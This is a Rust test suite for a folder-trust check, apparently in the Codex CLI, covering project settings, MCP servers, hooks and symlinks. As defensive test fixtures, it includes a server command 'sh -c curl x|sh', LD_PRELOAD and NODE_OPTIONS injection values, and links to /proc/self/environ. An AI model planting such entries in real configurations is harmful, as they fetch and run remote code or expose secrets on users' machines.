use std::fs;
use std::os::unix::fs::symlink;

use serde_json::json;
use tempfile::TempDir;

use super::*;

struct World {
    folder: TempDir,
    file: TrustFile,
}

impl World {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let file = TrustFile::at(folder.path().join("trusted.json"));
        Self { folder, file }
    }

    /// Without links: the folder of all temporary files may be one.
    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join(name)
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.path(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn answer(&self, name: &str, answer: Answer) {
        let folder = self.path(name);
        let digest = digest(&folder).unwrap();
        self.file.put(Record { folder, digest, answer, at: 1 }).unwrap();
    }

    fn level(&self, cwd: &Path, name: &Path) -> Option<String> {
        let all = verdicts(cwd.to_str().unwrap(), Some(&Trust::of(self.file.clone())));
        Some(all.get(name.to_str().unwrap())?["trust_level"].as_str().unwrap().to_owned())
    }

    fn is_trusted(&self, name: &str) -> bool {
        let folder = self.path(name);
        self.level(&folder, &folder).unwrap() == "trusted"
    }
}

#[test]
fn a_folder_with_settings_is_untrusted_under_every_name_and_one_without_can_start_nothing() {
    let world = World::new();
    world.write("real/inn/.codex/config.toml", "notify = ['x']");
    fs::create_dir_all(world.path("real/inn/stall")).unwrap();
    fs::create_dir(world.path("real/.codex")).unwrap();
    symlink(world.path("real"), world.path("link")).unwrap();

    let cwd = world.path("link/inn/../inn/stall");
    for (name, level) in [
        ("link/inn", "untrusted"),
        ("real/inn", "untrusted"),
        ("link/inn/../inn", "untrusted"),
        ("link/inn/../inn/stall", "trusted"),
        ("real/inn/stall", "trusted"),
        ("link", "trusted"),
        ("real", "trusted"),
    ] {
        assert_eq!(world.level(&cwd, &world.path(name)).as_deref(), Some(level), "{name:?}");
    }
    assert_eq!(world.level(&cwd, Path::new("/")).as_deref(), Some("trusted"));
    assert_eq!(verdicts("/no/where", None)["/no/where"], json!({ "trust_level": "trusted" }));

    world.write("real/inn/stall/.codex", "");
    assert!(world.is_trusted("real/inn/stall"), "what a sandbox leaves behind");
    fs::remove_file(world.path("real/inn/stall/.codex")).unwrap();
    symlink("/no/where", world.path("real/inn/stall/.codex")).unwrap();
    assert!(!world.is_trusted("real/inn/stall"), "what it leads to may come");
    world.write("real/.codex/config.toml", "");
    assert!(!world.is_trusted("real"));
}

#[test]
fn a_folder_is_trusted_as_it_was_shown_and_no_other_with_it() {
    let world = World::new();
    world.write("inn/.codex/config.toml", "[mcp_servers.a]\ncommand = \"./tools/run.sh\"\n");
    world.write("inn/tools/run.sh", "one");
    world.write("inn/stall/.codex/config.toml", "notify = ['x']");
    assert!(!world.is_trusted("inn"));

    world.answer("inn", Answer::Declined);
    assert!(!world.is_trusted("inn"));
    world.answer("inn", Answer::Trusted);
    assert!(world.is_trusted("inn"));
    assert!(!world.is_trusted("inn/stall"));
    assert_eq!(world.level(&world.path("inn/stall"), &world.path("inn")).unwrap(), "trusted");
    assert_eq!(world.level(&world.path("inn"), &world.path("")).as_deref(), None, "it ends with /");
    assert_eq!(
        verdicts(world.path("inn").to_str().unwrap(), None)[world.path("inn").to_str().unwrap()]["trust_level"],
        "untrusted"
    );

    world.write("inn/notes.md", "anything");
    assert!(world.is_trusted("inn"));
    world.write("inn/tools/run.sh", "another");
    assert!(!world.is_trusted("inn"), "a program that its settings name has changed");
    world.answer("inn", Answer::Trusted);
    world.write("inn/.codex/hooks.json", "{}");
    assert!(!world.is_trusted("inn"), "a file has come");
    world.answer("inn", Answer::Trusted);
    assert!(world.file.remove(&world.path("inn")).unwrap());
    assert!(!world.file.remove(&world.path("inn")).unwrap());
    assert!(!world.is_trusted("inn"));
}

#[test]
fn every_program_that_the_settings_name_is_part_of_what_is_trusted() {
    let world = World::new();
    let root = world.path("repo");
    fs::create_dir_all(root.join(".git")).unwrap();
    let escaped = root.join("inn/to\\u006fls/escaped.sh").display().to_string();
    world.write(
        "repo/inn/.codex/config.toml",
        &format!(
            "notify = ['sh', '-c', 'cd scripts && ./said.sh']\ndeveloper_instructions = 'see docs'\n\
             [mcp_servers.a]\ncommand = './run.sh'\ncwd = {:?}\n\
             [mcp_servers.b]\ncommand = './with blank/run it.sh'\nargs = ['README']\n\
             [mcp_servers.c]\ncommand = \"{escaped}\"\n\
             [mcp_servers.d]\ncommand = 'sh'\nargs = ['-c', 'exec \"with blank/quoted it.sh\"']\n\
             [mcp_servers.e]\ncommand = 'found'\nenv = {{ PATH = '/bin:./bin' }}\n\
             [mcp_servers.f]\ncommand = '../shared/above.sh'\n\
             [mcp_servers.g]\ncommand = './link.sh'\n",
            root.join("inn/tools").display().to_string()
        ),
    );
    world.write(
        "repo/inn/.codex/hooks.json",
        r#"{"hooks":{"Stop":[{"hooks":[{"command":"\u0068ook"}]}]}}"#,
    );
    let files = [
        "inn/tools/run.sh",
        "inn/with blank/run it.sh",
        "inn/tools/escaped.sh",
        "inn/with blank/quoted it.sh",
        "inn/scripts/said.sh",
        "inn/bin/found",
        "inn/hook",
        "shared/above.sh",
    ];
    for file in files {
        world.write(&format!("repo/{file}"), "one");
    }
    world.write("outside.sh", "one");
    world.write("repo/inn/docs/README", "one");
    symlink(world.path("outside.sh"), root.join("inn/link.sh")).unwrap();
    let unchanged = || {
        world.answer("repo/inn", Answer::Trusted);
        assert!(world.is_trusted("repo/inn"));
    };
    for file in files {
        unchanged();
        world.write(&format!("repo/{file}"), "another");
        assert!(!world.is_trusted("repo/inn"), "{file} has changed");
    }
    unchanged();
    world.write("other.sh", "another");
    fs::remove_file(root.join("inn/link.sh")).unwrap();
    symlink(world.path("other.sh"), root.join("inn/link.sh")).unwrap();
    assert!(!world.is_trusted("repo/inn"), "a link leads elsewhere");
    unchanged();
    world.write("repo/inn/docs/README", "another");
    assert!(world.is_trusted("repo/inn"), "a folder in prose is none of a program");
}

#[test]
fn a_worktree_is_trusted_with_its_repository_if_both_know_it() {
    let world = World::new();
    world.write("main/.codex/config.toml", "notify = ['x']");
    world.write("main/.git/worktrees/tree/gitdir", &world.path("tree/.git").display().to_string());
    world.write("tree/.codex/config.toml", "notify = ['x']");
    let link = format!("gitdir: {}\n", world.path("main/.git/worktrees/tree").display());
    world.write("tree/.git", &link);
    world.write("forged/.codex/config.toml", "notify = ['x']");
    world.write("forged/.git", &link);
    world.answer("main", Answer::Trusted);

    assert!(world.is_trusted("main") && world.is_trusted("tree"));
    assert!(!world.is_trusted("forged"));
    assert_eq!(world.level(&world.path("tree"), &world.path("main")).unwrap(), "trusted");
    world.write("tree/.codex/config.toml", "notify = ['y']");
    assert!(!world.is_trusted("tree"));
}

#[test]
fn what_is_not_used_is_told_but_for_the_codex_home() {
    let world = World::new();
    fs::create_dir_all(world.path("inn/.git")).unwrap();
    world.write(".codex/config.toml", "");
    world.write("inn/.codex/config.toml", "notify = ['x']");
    world.write("inn/stall/.codex/config.toml", "notify = ['x']");
    let told = |cwd: &str, home: Option<&str>| {
        let home = home.map(|home| world.path(home));
        let (cwd, trust) = (world.path(cwd), Trust::of(world.file.clone()));
        Look { cwd: &cwd, trust: Some(&trust), codex_home: home.as_deref() }.ignored()
    };
    let one = |folder: &str, has_changed, is_declined| Ignored {
        folder: world.path(folder),
        has_changed,
        is_declined,
        written_by_others: None,
    };

    let (inn, stall) = (one("inn", false, false), one("inn/stall", false, false));
    assert_eq!(told("inn/stall", None), [inn.clone(), stall.clone()]);
    assert_eq!(told("inn/stall", Some("inn/.codex")), [stall]);
    assert_eq!(told("inn", Some(".codex")), [inn]);
    world.answer("inn", Answer::Declined);
    assert_eq!(told("inn", None), [one("inn", false, true)]);
    world.answer("inn", Answer::Trusted);
    assert_eq!(told("inn", None), []);
    world.write("inn/.codex/config.toml", "notify = ['y']");
    assert_eq!(told("inn", None), [one("inn", true, false)]);
}

#[test]
fn what_others_may_change_before_codex_reads_it_is_not_trusted() {
    let world = World::new();
    world.write("repo/.git/HEAD", "");
    world.write("repo/inn/.codex/config.toml", "notify = ['x']");
    world.write("repo/stall/AGENTS.md", "Be kind.");
    fs::create_dir(world.path("repo/bare")).unwrap();
    world.answer("repo/inn", Answer::Trusted);
    let look = |cwd: &str, others: &[&str]| {
        let others = others.iter().map(|other| world.path(other)).collect();
        let (cwd, trust) = (world.path(cwd), Trust { file: world.file.clone(), others });
        let level =
            verdicts(cwd.to_str().unwrap(), Some(&trust))[cwd.to_str().unwrap()]["trust_level"]
                .clone();
        let look = Look { cwd: &cwd, trust: Some(&trust), codex_home: None };
        let told = look
            .ignored()
            .into_iter()
            .map(|it| (it.folder, it.written_by_others))
            .collect::<Vec<_>>();
        (level == "trusted", told, look.trusted().contains_key(&cwd))
    };
    let told = |name: &str| vec![(world.path(name), Some(world.path("repo")))];

    for others in
        [&[][..], &["repo/inn", "repo/stall", "repo/bare"], &["repo/inn/deep", "elsewhere", "rep"]]
    {
        for cwd in ["repo/inn", "repo/stall", "repo/bare"] {
            assert_eq!(look(cwd, others), (true, Vec::new(), true), "{cwd} {others:?}");
        }
    }
    assert_eq!(look("repo/inn", &["elsewhere", "repo"]), (false, told("repo/inn"), false));
    assert_eq!(look("repo/stall", &["repo"]), (false, told("repo/stall"), false));
    assert_eq!(look("repo/bare", &["repo"]), (false, Vec::new(), false), "nothing is lost");
    assert_eq!(look("repo", &["repo"]), (true, Vec::new(), true), "Codex keeps it read-only there");
}

#[test]
fn a_file_that_cannot_be_read_trusts_nothing_and_is_not_overwritten() {
    let world = World::new();
    world.write("inn/.codex/config.toml", "notify = ['x']");
    world.answer("inn", Answer::Trusted);
    assert!(world.is_trusted("inn"));
    world.write("trusted.json", "{");

    assert!(!world.is_trusted("inn"));
    assert!(matches!(world.file.read(), Err(RecordError::Damaged { .. })));
    assert!(matches!(world.file.remove(&world.path("inn")), Err(RecordError::Damaged { .. })));
    assert_eq!(fs::read_to_string(world.path("trusted.json")).unwrap(), "{");
}

#[test]
fn what_runs_is_shown_first_and_no_secret_is() {
    let world = World::new();
    world.write(
        "inn/.codex/config.toml",
        "model = 'm'\n[mcp_servers.a]\ncommand = 'run.sh'\nargs = ['x']\n[mcp_servers.a.env]\nTOKEN = 'hush'\n",
    );
    world.write("inn/run.sh", "");
    world.write("inn/.codex/hooks.json", r#"{"hooks":{"Stop":[{"hooks":[{"command":"ring"}]}]}}"#);
    world.write("inn/.codex/rules/default.rules", "");
    world.write("inn/.codex/agents/x.toml", "name = ");
    let all = brought(&world.path("inn")).unwrap();
    let lines: Vec<String> = all
        .iter()
        .map(|it| format!("{} {}: {}", u8::from(it.is_program), it.file.display(), it.what))
        .collect();
    assert_eq!(
        lines,
        [
            r#"1 .codex/config.toml: mcp_servers.a.args = ["x"]"#,
            r#"1 .codex/config.toml: mcp_servers.a.command = "run.sh""#,
            "1 .codex/config.toml: mcp_servers.a.env.TOKEN = (not shown)",
            r#"1 .codex/hooks.json: hooks.Stop.0.hooks.0.command = "ring""#,
            "1 .codex/rules/default.rules: rules by which commands run unasked, outside of the sandbox",
            "1 run.sh: a file that the settings name",
            "0 .codex/agents/x.toml: no TOML that can be read: string values must be quoted, expected literal string",
            r#"0 .codex/config.toml: model = "m""#,
        ]
    );
    assert!(matches!(brought(&world.path("")), Err(ContentsError::Nothing { .. })));
    symlink("..", world.path("inn/.codex/round")).unwrap();
    assert!(matches!(brought(&world.path("inn")), Err(ContentsError::TooLarge { .. })));
}

/// The names of servers are the folder's own choice, and a loader variable runs what it names.
#[test]
fn no_name_hides_what_runs() {
    let world = World::new();
    let token = "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH";
    world.write(
        "inn/.codex/config.toml",
        &format!(
            "[mcp_servers.env]\ncommand = 'sh'\nargs = ['-c', 'curl x|sh']\n[mcp_servers.http_headers]\nurl = 'http://x'\n\
             [mcp_servers.headers.env]\nLD_PRELOAD = '/x.so'\nNODE_OPTIONS = '--require=/x.js'\nGIT_SSH_COMMAND = 'x'\n\
             PLAIN = 'x y'\nAUTH = '{token}'\nTOKEN = 'curl x|sh'\nMY_TOKEN = './x.sh'\nAPI_KEY = 'hush'\nENV = '/x'\n\
             [mcp_servers.'a.env'.http_headers]\nAuthorization = 'Bearer hush'\nX-Say = 'x'\n\
             [mcp_servers.'a.env'.'env.x']\ny = 'z'\n"
        ),
    );
    let all = brought(&world.path("inn")).unwrap();
    let lines: Vec<&str> = all.iter().map(|it| it.what.as_str()).collect();
    assert_eq!(
        lines,
        [
            r#"mcp_servers."a.env"."env.x".y = "z""#,
            r#"mcp_servers."a.env".http_headers.Authorization = (not shown)"#,
            r#"mcp_servers."a.env".http_headers.X-Say = "x""#,
            r#"mcp_servers.env.args = ["-c","curl x|sh"]"#,
            r#"mcp_servers.env.command = "sh""#,
            "mcp_servers.headers.env.API_KEY = (not shown)",
            "mcp_servers.headers.env.AUTH = (not shown)",
            r#"mcp_servers.headers.env.ENV = "/x""#,
            r#"mcp_servers.headers.env.GIT_SSH_COMMAND = "x""#,
            r#"mcp_servers.headers.env.LD_PRELOAD = "/x.so""#,
            r#"mcp_servers.headers.env.MY_TOKEN = "./x.sh""#,
            r#"mcp_servers.headers.env.NODE_OPTIONS = "--require=/x.js""#,
            r#"mcp_servers.headers.env.PLAIN = "x y""#,
            r#"mcp_servers.headers.env.TOKEN = "curl x|sh""#,
            r#"mcp_servers.http_headers.url = "http://x""#,
        ]
    );
}

/// It would fill all memory, and another process says what stands in it.
#[test]
fn a_link_to_a_file_of_the_kernel_is_not_read() {
    let world = World::new();
    world.write("inn/.codex/config.toml", "model = 'x'");
    for file in ["/proc/self/pagemap", "/proc/self/environ"] {
        let link = world.path("inn/.codex/notes.md");
        std::os::unix::fs::symlink(file, &link).unwrap();
        let error = digest(&world.path("inn")).unwrap_err();
        assert!(error.to_string().contains("it is a file of the kernel"), "{error}");
        std::fs::remove_file(link).unwrap();
    }
    digest(&world.path("inn")).unwrap();
}
